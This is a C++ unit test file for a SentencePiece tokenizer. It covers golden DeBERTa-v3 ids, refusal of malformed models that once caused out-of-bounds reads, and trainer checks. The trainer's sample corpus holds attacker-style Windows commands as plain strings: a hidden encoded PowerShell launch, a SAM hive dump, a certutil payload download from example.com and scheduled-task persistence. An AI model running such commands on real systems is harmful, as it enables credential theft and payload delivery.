// SentencePiece (through the dlopen'ed libattune_spm) against Hugging Face's DebertaV2Tokenizer ids for
// deberta-v3 (../shared/golden/tokenizers/deberta_v3*.jsonl), and the trainer entry point.
#include "data/tokenizers/sentencepiece_tokenizer.h"

#include <cstdint>
#include <cstring>
#include <fstream>
#include <memory>
#include <utility>

#include "base/errors.h"
#include "test_paths.h"

namespace attune::data {
namespace {

std::vector<nlohmann::json> read_jsonl(const std::filesystem::path& path) {
  std::ifstream in(path);
  std::vector<nlohmann::json> out;
  std::string line;
  while (std::getline(in, line))
    if (!line.empty()) out.push_back(nlohmann::json::parse(line));
  return out;
}

std::filesystem::path deberta_dir() {
  return testing::shared_dir() / "tokenizers/deberta-v3";
}
std::filesystem::path golden_dir() {
  return testing::shared_dir() / "golden/tokenizers";
}
std::vector<std::int64_t> ids_of(const nlohmann::json& value) {
  return value.get<std::vector<std::int64_t>>();
}

TEST(SentencePieceTokenizer, ReadmeReferenceIdsAndSpecials) {
  ATTUNE_REQUIRE_SHARED("tokenizers/deberta-v3");
  const auto tokenizer = load_tokenizer(deberta_dir());
  EXPECT_EQ(tokenizer->kind(), TokenizerKind::kSentencePiece);
  EXPECT_EQ(tokenizer->encode("The quick brown fox jumped over the lazy dog.", /*add_special_tokens=*/false),
            (std::vector<std::int64_t>{279, 1538, 3258, 16123, 6827, 360, 262, 9118, 1560, 260}));
  EXPECT_EQ(tokenizer->cls_id(), 1);
  EXPECT_EQ(tokenizer->sep_id(), 2);
  EXPECT_EQ(tokenizer->pad_id(), 0);
  EXPECT_EQ(tokenizer->unk_id(), 3);
  EXPECT_EQ(tokenizer->mask_id(), 128000);
  EXPECT_EQ(tokenizer->vocab_size(), 128001);
  EXPECT_EQ(tokenizer->id_to_token(128000), "[MASK]");
  EXPECT_EQ(tokenizer->id_to_token(279), "\xE2\x96\x81The");  // "▁The"
  EXPECT_EQ(tokenizer->token_to_id("[CLS]"), 1);
  EXPECT_FALSE(tokenizer->token_to_id("no-such-piece-\x01").has_value());
  EXPECT_THROW(tokenizer->id_to_token(128001), InputError);
}

// Every golden record: `ids` (the slow tokenizer, sentencepiece semantics, byte fallback included) of the
// text, and `ids_lower` through options.lowercase.
TEST(SentencePieceTokenizer, GoldenIds) {
  ATTUNE_REQUIRE_SHARED("tokenizers/deberta-v3");
  ATTUNE_REQUIRE_SHARED("golden/tokenizers/deberta_v3.jsonl");
  const auto plain = load_tokenizer(deberta_dir());
  const auto lower = load_tokenizer(deberta_dir(), TokenizerOptions{/*lowercase=*/true});
  const auto records = read_jsonl(golden_dir() / "deberta_v3.jsonl");
  ASSERT_EQ(records.size(), 692u);
  for (const auto& r : records) {
    const std::string text = r["text"];
    const auto ids = plain->encode(text);
    EXPECT_EQ(ids, ids_of(r["ids"])) << r["src"] << " n=" << r["n"];
    EXPECT_EQ(lower->encode(text), ids_of(r["ids_lower"])) << "lowercased " << r["src"];
    const auto tokens = r["tokens"].get<std::vector<std::string>>();
    const auto golden_ids = ids_of(r["ids"]);
    ASSERT_EQ(golden_ids.size(), tokens.size());
    for (std::size_t i = 0; i < tokens.size(); ++i) EXPECT_EQ(plain->id_to_token(golden_ids[i]), tokens[i]);
  }
}

TEST(SentencePieceTokenizer, GoldenTruncationTo128) {
  ATTUNE_REQUIRE_SHARED("tokenizers/deberta-v3");
  ATTUNE_REQUIRE_SHARED("golden/tokenizers/deberta_v3_trunc128.jsonl");
  const auto plain = load_tokenizer(deberta_dir());
  const auto lower = load_tokenizer(deberta_dir(), TokenizerOptions{/*lowercase=*/true});
  const auto records = read_jsonl(golden_dir() / "deberta_v3_trunc128.jsonl");
  ASSERT_EQ(records.size(), 33u);
  for (const auto& r : records) {
    const std::int64_t max_length = r["max_length"];
    if (r.contains("text_pair")) {
      const auto encoding = plain->encode_pair(r["text"], r["text_pair"], true, max_length);
      EXPECT_EQ(encoding.ids, ids_of(r["ids"])) << "k=" << r["k"];
      if (r["fast_ids"] == r["ids"]) {  // the Rust tokenizer's type ids, where it agrees on the ids
        EXPECT_EQ(encoding.type_ids, ids_of(r["fast_type_ids"])) << "k=" << r["k"];
      }
      EXPECT_EQ(lower->encode_pair(r["text"], r["text_pair"], true, max_length).ids, ids_of(r["ids_lower"]))
          << "k=" << r["k"];
    } else {
      EXPECT_EQ(plain->encode(r["text"], true, max_length), ids_of(r["ids"])) << "k=" << r["k"];
      EXPECT_EQ(lower->encode(r["text"], true, max_length), ids_of(r["ids_lower"])) << "k=" << r["k"];
    }
  }
}

TEST(SentencePieceTokenizer, NotAModelIsAnInputError) {
  const auto dir = testing::temp_dir("spm-bad");
  std::ofstream(dir / "spm.model") << "not a protobuf";
  try {
    load_tokenizer(dir);
    FAIL() << "expected InputError";
  } catch (const InputError& e) {
    EXPECT_NE(std::string(e.what()).find("spm.model"), std::string::npos) << e.what();
  }
}

// Protobuf wire format, for hand-made spm.model files (sentencepiece_model.proto ModelProto).
std::string varint(std::uint64_t value) {
  std::string out;
  do {
    const auto low = static_cast<char>(value & 0x7F);
    value >>= 7;
    out += static_cast<char>(low | (value != 0 ? 0x80 : 0));
  } while (value != 0);
  return out;
}
std::string bytes_field(int number, const std::string& payload) {
  return varint(static_cast<std::uint64_t>(number) << 3 | 2) + varint(payload.size()) + payload;
}
std::string varint_field(int number, std::uint64_t value) {
  return varint(static_cast<std::uint64_t>(number) << 3) + varint(value);
}
// ModelProto.pieces: SentencePiece {1: piece, 2: score (float), 3: type (1 normal, 2 unknown, 3 control)}.
std::string piece_field(const std::string& piece, int type, float score = 0) {
  std::string score_field(1, static_cast<char>(2 << 3 | 5));
  score_field.append(reinterpret_cast<const char*>(&score), sizeof score);
  return bytes_field(1,
                     bytes_field(1, piece) + score_field + varint_field(3, static_cast<std::uint64_t>(type)));
}

// A unigram model: [UNK] [CLS] [SEP] "▁b" "b" "▁" "a", normalized by `charsmap` (NormalizerSpec
// precompiled_charsmap: <trie bytes: uint32 LE><darts-clone double array of uint32 units><NUL-terminated
// replacements>).
std::string model_with_charsmap(const std::string& charsmap) {
  const std::string space = "\xE2\x96\x81";  // ▁
  const std::string model = piece_field("[UNK]", 2) + piece_field("[CLS]", 3) + piece_field("[SEP]", 3) +
                            piece_field(space + "b", 1, -1) + piece_field("b", 1, -5) +
                            piece_field(space, 1, -5) + piece_field("a", 1, -5);
  return model + bytes_field(3, bytes_field(1, "test") + bytes_field(2, charsmap));
}

// A double array of 512 units mapping "a" to the replacement at `value`: the root (unit 0) starts its
// children at 256, "a" sits at 256 ^ 'a' and starts its own at `a_base`, where its value unit lies. Unused
// units carry labels that match from no node (as darts-clone leaves them).
std::string charsmap(std::uint32_t value, const std::string& replacements, std::uint32_t a_base = 384) {
  std::vector<std::uint32_t> units(512);
  for (std::uint32_t i = 0; i < units.size(); ++i) units[i] = (i ^ 300) & 0xFF;
  const std::uint32_t a = 256 ^ 'a';
  units[0] = 256 << 10;
  units[a] = ((a ^ a_base) << 10) | (1 << 8) | 'a';  // offset, has a leaf, label
  if (a_base < units.size()) units[a_base] = (1u << 31) | value;
  std::string out(4, '\0');
  const std::uint32_t trie_bytes = units.size() * 4;
  std::memcpy(out.data(), &trie_bytes, 4);
  out.append(reinterpret_cast<const char*>(units.data()), trie_bytes);
  return out + replacements;
}

std::unique_ptr<Tokenizer> load_model_bytes(const std::string& name, const std::string& model) {
  const auto dir = testing::temp_dir(name);
  std::ofstream(dir / "spm.model", std::ios::binary | std::ios::trunc) << model;
  return load_tokenizer(dir);
}

// The hand-made model loads, and SentencePiece normalizes with its rule: "a" -> "b", then "▁b".
TEST(SentencePieceTokenizer, HandMadeNormalizationRulesApply) {
  const auto tokenizer =
      load_model_bytes("spm-rules", model_with_charsmap(charsmap(0, std::string("b\0", 2))));
  EXPECT_EQ(tokenizer->encode("a", /*add_special_tokens=*/false), (std::vector<std::int64_t>{3}));
}

// Debian's libsentencepiece trusts a model's normalization rules and user-defined pieces; rules or pieces
// that would make it read outside its buffers while encoding are refused when the model loads (found by
// tests/fuzz/fuzz_tokenizer_spm: a replacement offset past the rules' strings made Encode's strlen read
// freed memory). An empty piece was refused before, but leaked the half-loaded model.
TEST(SentencePieceTokenizer, ModelsTheLibraryWouldMisreadAreInputErrors) {
  const std::string b(std::string("b\0", 2));
  std::string past_the_blob = charsmap(0, b);
  const std::uint32_t too_long = past_the_blob.size() - 2;  // up to 3 bytes past it passed the library
  std::memcpy(past_the_blob.data(), &too_long, 4);
  std::string cycle = charsmap(0, b, /*a_base=*/256);  // "a" starts its children where the root does
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"a replacement past the strings", model_with_charsmap(charsmap(1000, b))},
      {"a replacement without its NUL", model_with_charsmap(charsmap(0, "b"))},
      {"children outside the trie", model_with_charsmap(charsmap(0, b, /*a_base=*/1024))},
      {"a cycle through a match", model_with_charsmap(cycle)},
      {"a trie past the rules' end", model_with_charsmap(past_the_blob)},
      {"an empty piece", piece_field("[UNK]", 2) + piece_field("", 1)},
  };
  for (const auto& [what, model] : cases) {
    try {
      load_model_bytes("spm-misread", model);
      ADD_FAILURE() << what << ": accepted";
    } catch (const InputError& e) {
      EXPECT_NE(std::string(e.what()).find("spm.model"), std::string::npos) << what << ": " << e.what();
    }
  }
}

// The trainer entry point: a tiny unigram model with DeBERTa-v3's layout ([PAD]=0 [CLS]=1 [SEP]=2 [UNK]=3,
// byte fallback) trains, loads and round-trips text.
TEST(SentencePieceTrainer, TrainsALoadableModel) {
  const auto dir = testing::temp_dir("spm-train");
  {
    std::ofstream corpus(dir / "corpus.txt");
    const std::vector<std::string> lines = {"powershell -nop -w hidden -enc",
                                            "net user administrator /domain",
                                            "whoami /all",
                                            "reg save hklm\\sam sam.save",
                                            "certutil -urlcache -f http://example.com/a.exe a.exe",
                                            "schtasks /create /tn updater",
                                            "cmd.exe /c dir c:\\users"};
    for (int i = 0; i < 200; ++i) corpus << lines[i % lines.size()] << " " << i << "\n";
  }
  const std::string prefix = (dir / "spm").string();
  train_sentencepiece("--input=" + (dir / "corpus.txt").string() + " --model_prefix=" + prefix +
                      " --vocab_size=300 --model_type=unigram --byte_fallback=true --character_coverage=1.0"
                      " --pad_id=0 --bos_id=1 --eos_id=2 --unk_id=3 --pad_piece=[PAD] --bos_piece=[CLS]"
                      " --eos_piece=[SEP] --unk_piece=[UNK] --minloglevel=2");
  ASSERT_TRUE(std::filesystem::exists(prefix + ".model"));
  const auto model_dir = testing::temp_dir("spm-trained");
  std::filesystem::copy_file(prefix + ".model", model_dir / "spm.model");
  const auto tokenizer = load_tokenizer(model_dir);
  EXPECT_EQ(tokenizer->cls_id(), 1);
  EXPECT_EQ(tokenizer->sep_id(), 2);
  EXPECT_EQ(tokenizer->pad_id(), 0);
  EXPECT_EQ(tokenizer->unk_id(), 3);
  EXPECT_EQ(tokenizer->vocab_size(), 300);
  for (const std::string text : {"whoami /all", "net user guest /domain", "zzz ünseen ✓"}) {
    const auto ids = tokenizer->encode(text);
    EXPECT_EQ(ids.front(), 1);
    EXPECT_EQ(ids.back(), 2);
    EXPECT_EQ(tokenizer->decode(ids), text);
  }
}

// PrefixMatcher keeps 64 matches of the user-defined pieces but reads as many as it finds: a model with 65
// such pieces, each a prefix of the next, crashed Encode on a text holding the longest (no fuzzing needed:
// SentencePiece's own trainer writes it). 64 load and encode.
TEST(SentencePieceTrainer, MoreThan64NestedUserDefinedPiecesAreRefused) {
  const auto dir = testing::temp_dir("spm-user-defined");
  std::ofstream(dir / "corpus.txt") << "whoami /all\nnet user guest /domain\n";
  for (const int chain : {64, 65}) {
    std::string symbols;
    for (int i = 1; i <= chain; ++i) symbols += (i > 1 ? "," : "") + std::string(i, 'q');
    const std::string prefix = (dir / ("spm" + std::to_string(chain))).string();
    train_sentencepiece("--input=" + (dir / "corpus.txt").string() + " --model_prefix=" + prefix +
                        " --vocab_size=120 --model_type=char --hard_vocab_limit=false --bos_id=1 --eos_id=2"
                        " --bos_piece=[CLS] --eos_piece=[SEP] --minloglevel=2 --user_defined_symbols=" +
                        symbols);
    const auto model_dir = testing::temp_dir("spm-user-defined-" + std::to_string(chain));
    std::filesystem::copy_file(prefix + ".model", model_dir / "spm.model");
    if (chain == 64) {
      const auto tokenizer = load_tokenizer(model_dir);
      const std::string text(200, 'q');
      const auto ids = tokenizer->encode(text, false);
      EXPECT_LE(ids.size(), 5u);  // "▁" and 64 + 64 + 64 + 8 q
      EXPECT_EQ(tokenizer->decode(ids), text);
      continue;
    }
    try {
      load_tokenizer(model_dir);
      ADD_FAILURE() << "accepted 65 nested user-defined pieces";
    } catch (const InputError& e) {
      EXPECT_NE(std::string(e.what()).find("user-defined"), std::string::npos) << e.what();
    }
  }
}

TEST(SentencePieceTrainer, BadFlagsAreAnInputError) {
  EXPECT_THROW(
      train_sentencepiece("--input=/nonexistent/corpus.txt --model_prefix=/nonexistent/x --vocab_size=10"),
      InputError);
}

}  // namespace
}  // namespace attune::data
